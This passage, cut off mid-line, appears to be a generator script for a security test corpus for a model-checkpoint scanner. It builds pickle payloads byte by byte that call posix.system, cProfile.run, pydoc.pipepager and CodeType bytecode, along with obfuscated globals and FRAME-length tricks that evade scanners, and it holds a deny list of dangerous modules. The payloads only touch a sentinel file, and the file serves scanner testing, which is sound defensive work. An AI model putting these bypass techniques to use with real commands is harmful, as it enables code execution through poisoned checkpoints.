#!/usr/bin/python3
"""Write the security corpus of `ckpt check` (issue K) and its expected.json.

    /usr/bin/python3 testdata/security/gen_security.py [--trixie /work/jtests-trixie]

Run it as root with Debian 12's /usr/bin/python3 (Python 3.11, torch 1.13); the torch 2.6 half runs
in a Debian 13 chroot (Python 3.13, python3-torch 2.6, the same chroot as testdata/README.md
describes; /proc must be mounted in it, which this script does when it is not). It writes, under
testdata/security/:

- gen/      the bypass families, written byte by byte (protocol-level tricks, containers, gadgets);
- recreated/fickling/, recreated/modelscan/   test inputs that those projects build in their test
            code, re-created here from their opcode lists / generator code (see NOTICE.md);
- benign/t113/, benign/t26/   real torch.save / torch.jit.save outputs of torch 1.13 and 2.6, and
            hand-written safetensors;
- expected.json   the verdict of every file of the corpus, public/ (the scanners' own data files,
            copied by import_public.py) included.

Nothing in expected.json comes from ckpt. The verdicts come from Python itself (oracle.py): every
file is loaded with torch.load(weights_only=False, pickle_module=Recorder) under torch 1.13 and 2.6,
and, if it is not a zip, with Recorder.Unpickler(open(f)).load() (= pickle.load) and
Recorder.Unpickler(io.BytesIO(bytes)).load() (= torch.load(io.BytesIO(b)): a file object without peek(),
where a read that crosses a FRAME's end goes on at the frame's end) under Python 3.11 and 3.13, where Recorder's find_class returns the real object for globals on torch's weights_only
allowlist (the union of 1.13's and 2.6's, both written into expected.json) and a recording stub for
every other global. A stub records being referenced, called (REDUCE, OBJ, INST, NEWOBJ, NEWOBJ_EX)
and built (BUILD). See oracle.py for the details (name resolution by the C unpickler itself, pure
builtins passed through, `_load_from_bytes` followed, names that do not exist, the audit-hook guard).

Verdicts (`verdict`, with the exit statuses `ckpt check` may give at --fail-on error in `exit`):
- malicious        a non-allowlisted global is called or built, directly by the pickle or by an
                   allowlisted function that calls an argument; exit [1], and a dangerous-global
                   finding must name each global of `must_name` (each entry lists the spellings
                   that count: the name Python resolved, the name as written, an opcode);
- extras-only      every non-allowlisted global called is one of EXTRA_CANDIDATES, the vetted extras
                   ckpt's allowlist may hold (argparse.Namespace, pathlib paths, numpy reconstruction,
                   torch.nn.modules.*, UninitializedParameter, pure builtins): exit [0, 1], listed in
                   `extras_called`, counted apart by the bench;
- dormant          torch.load / pickle.load run nothing dangerous, but the file holds a dangerous
                   global in a pickle they never unpickle (a second data.pkl, archive/foo.pkl, the tar
                   format's sys_info, a second concatenated pickle): exit [0, 1];
- refused          every loader raised before calling anything (`torch_refuses` gives the reasons):
                   not counted as a missed detection; exit [0, 1, 3] (`nothing_scannable`);
- dangerous-reference  nothing dangerous is called, but a global of DENIED_MODULES / DENIED_NAMES
                   (os, posix, subprocess, builtins.eval, ...: the categories the public scanners agree
                   on) is imported and handed to the loading code: exit [1], a dangerous-global finding
                   naming each of `must_name`;
- tampered         (gen_heldout's setitems_tensor.pt) the pickle writes into a tensor it rebuilt, which
                   the generator proves with torch.load itself (the loaded value differs from the stored
                   bytes): exit [1] with a tensor-mutated finding;
- referenced-only  a non-allowlisted global is imported but never called: exit [0], with an
                   unknown-global finding and no error;
- clean            exit [0].

For the generated attack files the generator also states the verdict it built them for
(`intended`) and stops if the oracle disagrees; and it proves each mechanism with a harmless twin
(twin_runner.py): the same bytes, either as they are (their payload only creates $CKPT_SENTINEL or
./ckpt-sentinel) or with the dangerous global replaced by ckpt_twin.touch / ckpt_twin.Touch, loaded
for real with torch.load(weights_only=False) / pickle.load under both Pythons in a temporary
directory: `twin_proved` is true when the sentinel appeared, `twin_runs` says where. A twin that ran
where the oracle saw no call would stop the generator (the oracle would be wrong).

Every payload is inert if run for real: it at most creates the sentinel, or fails before doing
anything (network clients get timeout=0, which raises before any socket; venv / torch.hub get
arguments that fail at once). Seeded and free of pointers and clocks: a rerun writes byte-identical
files and the same expected.json (TorchScript archives record the path of the model source, which
is a fixed file under /tmp).
"""

import argparse
import collections
import hashlib
import io
import json
import os
import pickle
import pickletools
import shutil
import struct
import subprocess
import sys
import tarfile
import tempfile
import types
import zipfile

HERE = os.path.dirname(os.path.abspath(__file__))
CHROOT = shutil.which("chroot", path="/usr/sbin:/sbin:/usr/bin:/bin") or "chroot"

SENTINEL_SH = 'touch "${CKPT_SENTINEL:-/tmp/ckpt-sentinel}"'
SENTINEL_EXEC = "import os; open(os.environ.get('CKPT_SENTINEL', '/tmp/ckpt-sentinel'), 'w').close()"
REL_SENTINEL = "ckpt-sentinel"  # for payloads that take a fixed path: created in the working directory
MAGIC = 0x1950A86A20F9469CFC6C
TWIN_MOD = "ckpt_twin"
TWIN_SOURCE = '''"""Harmless twin callables of the security corpus: each only creates the sentinel file."""
import os
import types


def _touch():
    open(os.environ.get("CKPT_SENTINEL", "ckpt-sentinel"), "w").close()


def touch(*args, **kwargs):
    _touch()


class Touch:
    def __new__(cls, *args, **kwargs):
        _touch()
        return object.__new__(cls)

    def __init__(self, *args, **kwargs):
        pass

    def __setstate__(self, state):
        _touch()


ns = types.SimpleNamespace(touch=touch)
'''

# Globals ckpt's own allowlist may hold beyond torch's (the vetted extras): a benign file whose only
# non-allowlisted calls are among these may exit 0 or 1; the test reports which, the bench counts
# them apart.
EXTRA_CANDIDATES = {
    "argparse.Namespace",
    "pathlib.Path", "pathlib.PosixPath", "pathlib.WindowsPath", "pathlib.PurePath",
    "pathlib.PurePosixPath", "pathlib.PureWindowsPath",
    "pathlib._local.Path", "pathlib._local.PosixPath", "pathlib._local.WindowsPath",
    "pathlib._local.PurePath", "pathlib._local.PurePosixPath", "pathlib._local.PureWindowsPath",
    "numpy.core.multiarray._reconstruct", "numpy.core.multiarray.scalar",
    "numpy._core.multiarray._reconstruct", "numpy._core.multiarray.scalar",
    "numpy.ndarray", "numpy.dtype",
    "torch.nn.parameter.UninitializedParameter", "torch.nn.parameter.UninitializedBuffer",
    "builtins.int", "builtins.float", "builtins.str", "builtins.bytes", "builtins.bool",
    "builtins.tuple", "builtins.list", "builtins.dict", "builtins.frozenset", "builtins.range", "builtins.slice",
    # pure builtins: a value computed from the arguments, nothing called of the file's choosing
    "builtins.len", "builtins.abs", "builtins.round", "builtins.divmod", "builtins.pow", "builtins.min",
    "builtins.max", "builtins.sum", "builtins.ord", "builtins.chr", "builtins.bin", "builtins.oct", "builtins.hex",
    "lightning.fabric.utilities.data.AttributeDict", "lightning_fabric.utilities.data.AttributeDict",
    "pytorch_lightning.utilities.parsing.AttributeDict",
}
EXTRA_PREFIXES = ("torch.nn.modules.", "numpy.dtypes.")


# Globals a checkpoint has no reason to carry even uncalled (the object itself reaches the loading code):
# the categories picklescan's _unsafe_globals, modelscan's and fickling's unsafe imports agree on. A
# file that only references one is "dangerous-reference": exit 1.
DENIED_MODULES = ("os", "posix", "nt", "subprocess", "pty", "runpy", "code", "codeop", "ctypes", "_ctypes",
                  "socket", "_socket", "shutil", "pickle", "_pickle", "marshal", "importlib", "sys", "webbrowser",
                  "pdb", "bdb", "commands", "cProfile", "profile", "timeit", "pydoc")
DENIED_NAMES = {"builtins." + n for n in ("eval", "exec", "execfile", "compile", "__import__", "getattr", "setattr",
                                          "delattr", "open", "breakpoint", "input", "globals", "locals", "vars")}


def is_denied(name):
    return name in DENIED_NAMES or any(name == m or name.startswith(m + ".") for m in DENIED_MODULES)


def is_extra(name):
    return name in EXTRA_CANDIDATES or name.startswith(EXTRA_PREFIXES)


# ---------------------------------------------------------------------------------------------
# Opcodes
# ---------------------------------------------------------------------------------------------

def _b(s):
    return s.encode() if isinstance(s, str) else s


class O:
    """Pickle opcodes as bytes (names as in pickle.py / fickling's op module)."""

    @staticmethod
    def proto(n): return b"\x80" + bytes([n])
    @staticmethod
    def frame(n): return b"\x95" + struct.pack("<Q", n)
    @staticmethod
    def sbu(s): b = _b(s); return b"\x8c" + bytes([len(b)]) + b            # SHORT_BINUNICODE
    @staticmethod
    def binunicode(s): b = _b(s); return b"X" + struct.pack("<I", len(b)) + b
    @staticmethod
    def unicode(s): return b"V" + s.encode("raw_unicode_escape") + b"\n"
    @staticmethod
    def string(s): return b"S" + repr(s).encode() + b"\n"
    @staticmethod
    def glob(mod, name): return b"c" + _b(mod) + b"\n" + _b(name) + b"\n"
    @staticmethod
    def inst(mod, name): return b"i" + _b(mod) + b"\n" + _b(name) + b"\n"
    @staticmethod
    def binput(i): return b"q" + bytes([i])
    @staticmethod
    def long_binput(i): return b"r" + struct.pack("<I", i)
    @staticmethod
    def binget(i): return b"h" + bytes([i])
    @staticmethod
    def long_binget(i): return b"j" + struct.pack("<I", i)
    @staticmethod
    def put(i): return b"p%d\n" % i
    @staticmethod
    def get(i): return b"g%d\n" % i
    @staticmethod
    def binint1(i): return b"K" + bytes([i])
    @staticmethod
    def binint2(i): return b"M" + struct.pack("<H", i)
    @staticmethod
    def binint(i): return b"J" + struct.pack("<i", i)
    @staticmethod
    def sbb(b): return b"C" + bytes([len(b)]) + b                          # SHORT_BINBYTES
    @staticmethod
    def binbytes(b): return b"B" + struct.pack("<I", len(b)) + b
    @staticmethod
    def ext1(c): return b"\x82" + bytes([c])
    @staticmethod
    def ext2(c): return b"\x83" + struct.pack("<H", c)
    @staticmethod
    def ext4(c): return b"\x84" + struct.pack("<i", c)

    STACK_GLOBAL = b"\x93"
    MEMOIZE = b"\x94"
    MARK = b"("
    TUPLE = b"t"
    TUPLE1 = b"\x85"
    TUPLE2 = b"\x86"
    TUPLE3 = b"\x87"
    EMPTY_TUPLE = b")"
    EMPTY_DICT = b"}"
    EMPTY_LIST = b"]"
    EMPTY_SET = b"\x8f"
    LIST = b"l"
    DICT = b"d"
    REDUCE = b"R"
    BUILD = b"b"
    OBJ = b"o"
    NEWOBJ = b"\x81"
    NEWOBJ_EX = b"\x92"
    POP = b"0"
    POP_MARK = b"1"
    NONE = b"N"
    NEWTRUE = b"\x88"
    APPEND = b"a"
    APPENDS = b"e"
    SETITEM = b"s"
    SETITEMS = b"u"
    ADDITEMS = b"\x90"
    STOP = b"."


def fickle(ops):
    """fickling's test opcode lists ([(name, arg), ...] in fickling's op class names) as bytes."""
    out = b""
    for item in ops:
        name, arg = (item, None) if isinstance(item, str) else item
        enc = {
            "Proto": lambda a: O.proto(a), "Frame": lambda a: O.frame(a),
            "ShortBinUnicode": O.sbu, "BinUnicode": O.binunicode, "Unicode": O.unicode,
            "String": O.string, "Global": lambda a: O.glob(*a.split(" ", 1)),
            "BinPut": O.binput, "Put": O.put, "BinGet": O.binget, "Get": O.get,
            "BinInt1": O.binint1, "BinInt2": O.binint2, "ShortBinBytes": O.sbb,
        }.get(name)
        if enc is not None:
            out += enc(arg)
            continue
        out += {
            "StackGlobal": O.STACK_GLOBAL, "Memoize": O.MEMOIZE, "Mark": O.MARK, "Tuple": O.TUPLE,
            "TupleOne": O.TUPLE1, "TupleTwo": O.TUPLE2, "TupleThree": O.TUPLE3,
            "EmptyTuple": O.EMPTY_TUPLE, "EmptyDict": O.EMPTY_DICT, "EmptyList": O.EMPTY_LIST,
            "EmptySet": O.EMPTY_SET, "List": O.LIST, "Reduce": O.REDUCE, "Build": O.BUILD,
            "Obj": O.OBJ, "Pop": O.POP, "PopMark": O.POP_MARK, "NoneOpcode": O.NONE,
            "NewTrue": O.NEWTRUE, "Append": O.APPEND, "Appends": O.APPENDS, "SetItem": O.SETITEM,
            "AddItems": O.ADDITEMS, "Stop": O.STOP,
        }[name]
    return out


def call(mod, name, args=b"", opcode="GLOBAL"):
    """Push mod.name(*args): args are opcodes that push a tuple."""
    if opcode == "GLOBAL":
        return O.glob(mod, name) + args + O.REDUCE
    return O.sbu(mod) + O.sbu(name) + O.STACK_GLOBAL + args + O.REDUCE


def tup(*items):
    """Opcodes pushing a tuple of the given already-encoded items."""
    return O.MARK + b"".join(items) + O.TUPLE


def bare(payload, proto=2, value=b"N"):
    """A whole pickle: PROTO, the payload (pushes one value, popped), then value, STOP."""
    return O.proto(proto) + payload + O.POP + value + O.STOP


def pickle_end(data, start):
    """Offset just past the STOP of the pickle starting at start."""
    for op, arg, pos in pickletools.genops(io.BytesIO(data[start:])):
        if op.name == "STOP":
            return start + pos + 1
    raise ValueError("no STOP")


def strip_frames(data):
    """The same pickle without FRAME opcodes (they are only read-ahead hints)."""
    ops = list(pickletools.genops(io.BytesIO(data)))
    out = b""
    for i, (op, arg, pos) in enumerate(ops):
        end = ops[i + 1][2] if i + 1 < len(ops) else len(data)
        if op.name != "FRAME":
            out += data[pos:end]
    return out


def splice_end(body, payload):
    """Insert payload (pushes one value) + POP before the STOP of a whole pickle."""
    body = strip_frames(body)
    assert body.endswith(O.STOP)
    return body[:-1] + payload + O.POP + O.STOP


# ---------------------------------------------------------------------------------------------
# Containers
# ---------------------------------------------------------------------------------------------

def small_state_dict():
    import torch
    torch.manual_seed(0)
    return collections.OrderedDict([("fc.weight", torch.randn(2, 3)), ("fc.bias", torch.zeros(2))])


def torch_zip(obj, transform=None, protocol=2):
    """torch.save(obj) into a zip (prefix archive/), data.pkl passed through transform."""
    import torch

    class Pickler(pickle.Pickler):
        def __init__(self, file, protocol=2, **kw):
            self._out = file
            self._buf = io.BytesIO()
            super().__init__(self._buf, protocol=protocol, **kw)

        def dump(self, o):
            super().dump(o)
            data = self._buf.getvalue()
            self._out.write(transform(data) if transform else data)

    mod = types.ModuleType("ckpt_splice_pickle")
    mod.__dict__.update({k: v for k, v in pickle.__dict__.items() if not k.startswith("__")})
    mod.Pickler = Pickler
    buf = io.BytesIO()
    torch.save(obj, buf, pickle_module=mod, pickle_protocol=protocol)
    return buf.getvalue()


def zip_members(data):
    z = zipfile.ZipFile(io.BytesIO(data))
    return [(i.filename, z.read(i)) for i in z.infolist()]


def write_zip(members):
    """A stored zip (Python's zipfile, fixed dates): [(name, bytes)], duplicates allowed."""
    import warnings
    buf = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # duplicate names are the point of some fixtures
        with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
            for name, content in members:
                info = zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0))
                info.external_attr = 0o644 << 16
                info.create_system = 3
                z.writestr(info, content)
    return buf.getvalue()


ELEMENT_SIZE = {"Double": 8, "Float": 4, "Half": 2, "BFloat16": 2, "Long": 8, "Int": 4, "Short": 2,
                "Char": 1, "Byte": 1, "Bool": 1, "ComplexFloat": 8, "ComplexDouble": 16, "QInt8": 1,
                "QUInt8": 1, "QInt32": 4, "QUInt4x2": 1, "QUInt2x4": 1}


class _Any:
    """Stands for every global while reading our own legacy pickle for its persistent ids."""

    def __init__(self, *a, **k):
        pass

    def __call__(self, *a, **k):
        return _Any()

    def __setstate__(self, state):
        pass

    def __setitem__(self, k, v):
        pass

    def append(self, x):
        pass

    def extend(self, xs):
        pass


class _PidGrab(pickle.Unpickler):
    def __init__(self, f):
        super().__init__(f)
        self.pids = []

    def persistent_load(self, pid):
        self.pids.append(pid)
        return _Any  # a class: ('module', cls, ...) ids of whole pickled modules stand for classes

    def find_class(self, mod, name):
        return name if name.endswith("Storage") else _Any


def legacy_pieces(obj):
    """A legacy (pre-1.6) torch.save stream of obj split into its five pickles and the storage tail.
    torch names storages by C pointer (different on every run) and writes them in the sorted order of
    those names: here they are renamed k0, k1, ... in the order the object pickle first uses them,
    and the keys list and the storage records after it are rewritten in that order."""
    import torch
    buf = io.BytesIO()
    torch.save(obj, buf, _use_new_zipfile_serialization=False)
    data = buf.getvalue()
    pieces, pos = [], 0
    for _ in range(5):
        end = pickle_end(data, pos)
        pieces.append(data[pos:end])
        pos = end
    tail = data[pos:]
    keys = pickle.loads(pieces[4])
    grab = _PidGrab(io.BytesIO(pieces[3]))
    grab.load()
    size = {}
    order = []
    for pid in grab.pids:
        if pid[0] == "storage" and pid[2] not in size:
            size[pid[2]] = ELEMENT_SIZE[pid[1][: -len("Storage")]]
            order.append(pid[2])
    assert sorted(order) == sorted(keys), (order, keys)
    records, pos = {}, 0
    for k in keys:
        n = struct.unpack("<q", tail[pos:pos + 8])[0]
        records[k] = tail[pos:pos + 8 + n * size[k]]
        pos += 8 + n * size[k]
    assert pos == len(tail)
    names = {k: "k%d" % i for i, k in enumerate(order)}
    for k, new in names.items():
        pieces[3] = pieces[3].replace(O.binunicode(k), O.binunicode(new))
    pieces[4] = pickle.dumps([names[k] for k in order], protocol=2)
    tail = b"".join(records[k] for k in order)
    return pieces, tail


def legacy_stream(obj, magic=None, protocol_version=None, sys_info=None, objp=None, keys=None,
                  tail_extra=b""):
    """A legacy stream with any of its pickles replaced (bytes), or transformed (callables)."""
    pieces, tail = legacy_pieces(obj)
    for i, repl in enumerate((magic, protocol_version, sys_info, objp, keys)):
        if callable(repl):
            pieces[i] = repl(pieces[i])
        elif repl is not None:
            pieces[i] = repl
    return b"".join(pieces) + tail + tail_extra


def tar_stream(members):
    """The legacy tar format (torch < 0.4): members sys_info, pickle, storages, tensors."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as t:
        for name, content in members:
            info = tarfile.TarInfo(name)
            info.size = len(content)
            info.mtime = 0
            info.mode = 0o644
            info.uname = info.gname = ""
            t.addfile(info, io.BytesIO(content))
    return buf.getvalue()


def tar_members(objp=None, sys_info=None, storages=None):
    return [
        ("sys_info", sys_info or pickle.dumps({"protocol_version": 1001, "little_endian": True,
                                                "type_sizes": {"short": 2, "int": 4, "long": 4}},
                                               protocol=2)),
        ("pickle", objp or pickle.dumps({"epoch": 1, "note": "legacy tar format"}, protocol=2)),
        ("storages", storages or (pickle.dumps(0, protocol=2) + pickle.dumps([], protocol=2))),
        ("tensors", pickle.dumps(0, protocol=2)),
    ]


# ---------------------------------------------------------------------------------------------
# Payload fragments: each pushes one value; (mod, name) is the callable, swapped for the twin
# ---------------------------------------------------------------------------------------------

SH = O.binunicode(SENTINEL_SH)
EXEC = O.binunicode(SENTINEL_EXEC)


def p_reduce(mod="posix", name="system", args=None):
    return O.glob(mod, name) + (args if args is not None else O.MARK + SH + O.TUPLE) + O.REDUCE


def p_stack(mod="posix", name="system", args=None):
    return O.sbu(mod) + O.sbu(name) + O.STACK_GLOBAL + (args if args is not None else O.MARK + SH + O.TUPLE) + O.REDUCE


def p_obj(mod="posix", name="system"):
    return O.MARK + O.glob(mod, name) + SH + O.OBJ


def p_inst(mod="posix", name="system"):
    return O.MARK + SH + O.inst(mod, name)


def p_partial_newobj(mod="posix", name="system", ex=False):
    """functools.partial built by NEWOBJ (or NEWOBJ_EX), then called with ()."""
    cls = O.glob("functools", "partial")
    if not ex:
        made = cls + O.MARK + O.glob(mod, name) + SH + O.TUPLE + O.NEWOBJ
    else:
        made = cls + O.MARK + O.glob(mod, name) + SH + O.TUPLE + O.EMPTY_DICT + O.NEWOBJ_EX
    return made + O.EMPTY_TUPLE + O.REDUCE


def p_partial_build(mod="posix", name="system"):
    """functools.partial(OrderedDict) by NEWOBJ, BUILD sets its func and args (__setstate__),
    then it is called with ()."""
    made = O.glob("functools", "partial") + O.MARK + O.glob("collections", "OrderedDict") + O.TUPLE + O.NEWOBJ
    state = O.MARK + O.glob(mod, name) + O.MARK + SH + O.TUPLE + O.EMPTY_DICT + O.NONE + O.TUPLE
    return made + state + O.BUILD + O.EMPTY_TUPLE + O.REDUCE


def p_partial_reduce(mod="posix", name="system"):
    return (O.glob("functools", "partial") + O.MARK + O.glob(mod, name) + SH + O.TUPLE + O.REDUCE
            + O.EMPTY_TUPLE + O.REDUCE)


def p_memo_reuse(mod="posix", name="system"):
    """The global is pushed and memoized far from its use, popped, and called later from the memo."""
    return (O.glob(mod, name) + O.long_binput(7001) + O.POP
            + O.MARK + O.binunicode("decoy") + O.binint1(1) + O.DICT + O.POP
            + O.long_binget(7001) + O.MARK + SH + O.TUPLE + O.REDUCE)


def p_ext(code, width):
    enc = {1: O.ext1, 2: O.ext2, 4: O.ext4}[width]
    return enc(code) + O.MARK + SH + O.TUPLE + O.REDUCE


def p_getattr_chain(mod="posix", name="system"):
    """getattr(getattr(<module torch.serialization>, 'os'), 'system')(cmd): the only globals are
    builtins.getattr and torch.serialization (a module, referenced). For the twin: getattr(ckpt_twin
    module's ns, 'touch')."""
    if mod == TWIN_MOD:
        target = O.glob(TWIN_MOD, "ns")
        inner = O.glob("builtins", "getattr") + O.MARK + target + O.binunicode("touch") + O.TUPLE + O.REDUCE
    else:
        target = O.glob("torch", "serialization")
        first = O.glob("builtins", "getattr") + O.MARK + target + O.binunicode("os") + O.TUPLE + O.REDUCE
        inner = O.glob("builtins", "getattr") + O.MARK + first + O.binunicode("system") + O.TUPLE + O.REDUCE
    return inner + O.MARK + SH + O.TUPLE + O.REDUCE


def p_computed_stack_global(mod="posix", name="system"):
    """STACK_GLOBAL whose module and name strings are computed by _codecs.encode(s, 'rot13')
    (allowlisted by torch 2.6): the file holds only 'cbfvk' / 'flfgrz'."""
    import codecs
    rot = lambda s: codecs.encode(s, "rot13")  # noqa: E731
    enc = lambda s: O.glob("_codecs", "encode") + O.MARK + O.binunicode(rot(s)) + O.binunicode("rot13") + O.TUPLE + O.REDUCE  # noqa: E731
    return enc(mod) + enc(name) + O.STACK_GLOBAL + O.MARK + SH + O.TUPLE + O.REDUCE


def p_trampoline(mod="posix", name="system"):
    """torch._tensor._rebuild_from_type_v2(func, new_type, args, state) calls func(*args): torch 2.6
    allowlists it, and with weights_only=False func may be anything. The pickle only references
    posix.system; the allowlisted function calls it."""
    return (O.glob("torch._tensor", "_rebuild_from_type_v2") + O.MARK + O.glob(mod, name)
            + O.glob("torch", "Tensor") + O.MARK + SH + O.TUPLE + O.EMPTY_DICT + O.TUPLE + O.REDUCE)


def p_dotted(mod="torch", name="serialization.os.system"):
    return O.sbu(mod) + O.sbu(name) + O.STACK_GLOBAL + O.MARK + SH + O.TUPLE + O.REDUCE


def p_selfref(mod="posix", name="system"):
    """d = {}; d['self'] = d; d['cfg'] = [cfg list containing itself]; d['x'] = payload."""
    return (O.EMPTY_DICT + O.long_binput(9001) + O.MARK
            + O.binunicode("self") + O.long_binget(9001)
            + O.binunicode("loop") + O.EMPTY_LIST + O.long_binput(9002) + O.long_binget(9002) + O.APPEND
            + O.binunicode("x") + p_reduce(mod, name)
            + O.SETITEMS)


def p_nested(inner_stream):
    """torch.storage._load_from_bytes(b): a nested torch.load of b."""
    return O.glob("torch.storage", "_load_from_bytes") + O.MARK + O.binbytes(inner_stream) + O.TUPLE + O.REDUCE


def sentinel_codetype_args():
    """CodeType constructor arguments of `SENTINEL_EXEC` compiled by this Python (3.11)."""
    c = compile(SENTINEL_EXEC, "<ckpt>", "exec")
    return (c.co_argcount, c.co_posonlyargcount, c.co_kwonlyargcount, c.co_nlocals, c.co_stacksize,
            c.co_flags, c.co_code, c.co_consts, c.co_names, c.co_varnames, c.co_filename, c.co_name,
            c.co_qualname, c.co_firstlineno, c.co_linetable, c.co_exceptiontable, c.co_freevars,
            c.co_cellvars)


def py_obj(o):
    """Opcodes pushing a plain Python value (pickled at protocol 3, memo-free)."""
    buf = io.BytesIO()
    p = pickle.Pickler(buf, protocol=3)
    p.fast = True  # no memo: spliced anywhere, it cannot clash with another pickle's memo
    p.dump(o)
    data = buf.getvalue()
    assert data[:2] == b"\x80\x03" and data[-1:] == b"."
    return data[2:-1]


def p_codetype(mod="types", name="CodeType", twin=False):
    """types.CodeType(*args) -> types.FunctionType(code, {}) -> call: arbitrary bytecode."""
    code = O.glob(mod, name) + py_obj(sentinel_codetype_args()) + O.REDUCE
    func = O.glob("types", "FunctionType") + O.MARK + code + O.EMPTY_DICT + O.TUPLE + O.REDUCE
    return func + O.EMPTY_TUPLE + O.REDUCE


def p_cloudpickle(prefix="cloudpickle.cloudpickle"):
    """What cloudpickle writes for a function: _builtin_type('CodeType')(*args), then
    _make_function(code, globals, name, argdefs, closure), then the function is called."""
    if prefix == TWIN_MOD:
        return O.glob(TWIN_MOD, "touch") + O.MARK + O.binunicode("CodeType") + O.TUPLE + O.REDUCE
    codetype = O.glob(prefix, "_builtin_type") + O.MARK + O.binunicode("CodeType") + O.TUPLE + O.REDUCE
    code = codetype + py_obj(sentinel_codetype_args()) + O.REDUCE
    func = (O.glob(prefix, "_make_function") + O.MARK + code + O.EMPTY_DICT + O.binunicode("f") + O.NONE
            + O.NONE + O.TUPLE + O.REDUCE)
    return func + O.EMPTY_TUPLE + O.REDUCE


# ---------------------------------------------------------------------------------------------
# FRAME lengths that lie
# ---------------------------------------------------------------------------------------------

FRAME_LEN = 20000  # larger than any read-ahead buffer of an open()ed file (4096 / 8192 here)


def _pad(hidden, total):
    """hidden + POP + no-op opcodes, exactly total bytes long."""
    out = hidden + O.POP
    assert len(out) <= total, (len(out), total)
    if (total - len(out)) % 2:
        out += O.binint1(0) + O.POP
    while len(out) < total:
        out += O.NONE + O.POP
    assert len(out) == total
    return out


def frame_lie_file_only(hidden):
    """Opcodes (stack-neutral) that run `hidden` (pushes one value, popped) only when the pickle is
    read from a file object (pickle.load(f), torch.load's io.BytesIO of data.pkl or open()ed legacy
    file), never from bytes (pickle.loads): the last BINBYTES of a FRAME straddles the frame's end.

    C _pickle, file input: FRAME n reads exactly n bytes into its buffer; an opcode whose argument
    runs past the buffer reads the missing bytes afresh from the file and drops what was left of the
    buffer. Bytes input: one contiguous buffer. So BINBYTES's 4-byte length is (frame's last byte,
    next 3 bytes) from bytes, but (next 4 bytes) from a file: 0x1?? bytes swallowing `hidden` versus
    1 byte, after which `hidden` runs."""
    body_h = _pad(hidden, 300)  # H in [254, 509]: the bytes-mode length fits one low byte + 256
    low = len(body_h) + 2 - 256
    fill = FRAME_LEN - 5 - 1 - 2
    frame = O.binbytes(b"\0" * fill) + O.POP + b"B" + bytes([low])
    assert len(frame) == FRAME_LEN
    after = struct.pack("<I", 1) + b"\0" + body_h
    return O.frame(FRAME_LEN) + frame + after


def frame_lie_bytes_only(hidden):
    """The reverse: `hidden` runs from bytes (pickle.loads) and is swallowed when read from a file.
    BINBYTES8's 8-byte length straddles the frame's end by one byte."""
    body_h = _pad(hidden, 255)  # file-mode length = 256 = R[1] << 8
    fill = FRAME_LEN - 5 - 1 - 8
    frame = O.binbytes(b"\0" * fill) + O.POP + b"\x8e" + struct.pack("<Q", 8)[:7]
    assert len(frame) == FRAME_LEN
    after = b"\x00" + b"\x01" + b"\0" * 6 + b"\0" + body_h  # R0..R7, R8, then hidden at R9
    # bytes: length = 8 | R0 << 56 = 8, data R1..R8, continue at R9 (hidden)
    # file:  length = R0..R7 = 0x100, data R8 + hidden (256 bytes), continue after
    return O.frame(FRAME_LEN) + frame + after


# ---------------------------------------------------------------------------------------------
# The corpus
# ---------------------------------------------------------------------------------------------

class Corpus:
    def __init__(self, root):
        self.root = root
        self.entries = collections.OrderedDict()
        self.twins = {}  # rel -> bytes of the twin, or "self"

    def add(self, rel, data, *, source, family, notes, made_as="attack", intended=None, twin=None,
            twin_ext=None, twin_envs=None, **facts):
        path = os.path.join(self.root, rel)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        assert len(data) < 100 * 1024, (rel, len(data))
        with open(path, "wb") as f:
            f.write(data)
        e = collections.OrderedDict(source=source, family=family, made_as=made_as, notes=notes)
        if intended:
            e["intended"] = intended
        e.update(facts)
        self.entries[rel] = e
        if twin is not None:
            self.twins[rel] = (twin, twin_ext, twin_envs)


def gen_families(c):
    """Every bypass family of issue K, byte by byte (source: generated)."""
    G = "gen/"

    def attack(rel, build, family, notes, twin="self", container="pkl", intended="malicious",
               twin_ext=None, twin_envs=None, **kw):
        """build(mod, name) -> bytes; twin: 'self' (the file's payload only creates the sentinel),
        (mod, name) for a ckpt_twin substitute, or None."""
        data = build()
        tw = None
        if twin == "self":
            tw = "self"
        elif twin is not None:
            tw = build(*twin)
        c.add(G + rel, data, source="generated", family=family, notes=notes, intended=intended,
              twin=tw, twin_ext=twin_ext, twin_envs=twin_envs, **kw)

    T = (TWIN_MOD, "touch")
    TC = (TWIN_MOD, "Touch")

    # --- gadgets called by REDUCE, one per family, in a bare protocol-4 pickle (STACK_GLOBAL) ---
    def gadget(rel, mod, name, args, family, notes, twin="self", proto=4):
        def build(m=mod, n=name):
            frag = p_stack(m, n, args) if proto >= 4 else p_reduce(m, n, args)
            return bare(frag, proto)
        attack(rel, build, family, notes, twin=twin if twin != "helper" else T)

    gadget("cprofile_run.pkl", "cProfile", "run", tup(EXEC), "gadget:cProfile.run",
           "cProfile.run(code) execs code (GHSA-49gj-c84q-6qm9 class); the code only creates the sentinel.")
    gadget("profile_run.pkl", "profile", "run", tup(EXEC), "gadget:profile.run",
           "profile.run(code) execs code; the code only creates the sentinel.")
    gadget("pydoc_pipepager.pkl", "pydoc", "pipepager", tup(O.binunicode(""), SH), "gadget:pydoc.pipepager",
           "pydoc.pipepager(text, cmd) runs cmd in a shell (subprocess, shell=True).")
    attack("pkgutil_resolve_name.pkl",
           lambda m="pkgutil", n="resolve_name": bare(
               (O.sbu(m) + O.sbu(n) + O.STACK_GLOBAL + tup(O.binunicode("os:system")) + O.REDUCE
                + tup(SH) + O.REDUCE) if m != TWIN_MOD else p_stack(m, n), 4),
           "gadget:pkgutil.resolve_name",
           "pkgutil.resolve_name('os:system') returns os.system, which the next REDUCE calls: the file "
           "never names os.")
    attack("types_codetype.pkl", lambda m="types", n="CodeType": bare(p_codetype(m, n), 3) if m != TWIN_MOD
           else bare(p_reduce(m, n), 3),
           "gadget:types.CodeType",
           "types.CodeType(*args) builds the bytecode of `%s` (Python 3.11's constructor), "
           "types.FunctionType(code, {}) makes it a function, REDUCE calls it. The twin (the file itself) "
           "runs on Python 3.11 only: 3.13 must not run 3.11 bytecode." % SENTINEL_EXEC, twin_envs=["torch-1.13"])
    gadget("io_open.pkl", "io", "open", tup(O.binunicode(REL_SENTINEL), O.binunicode("w")), "gadget:io.open",
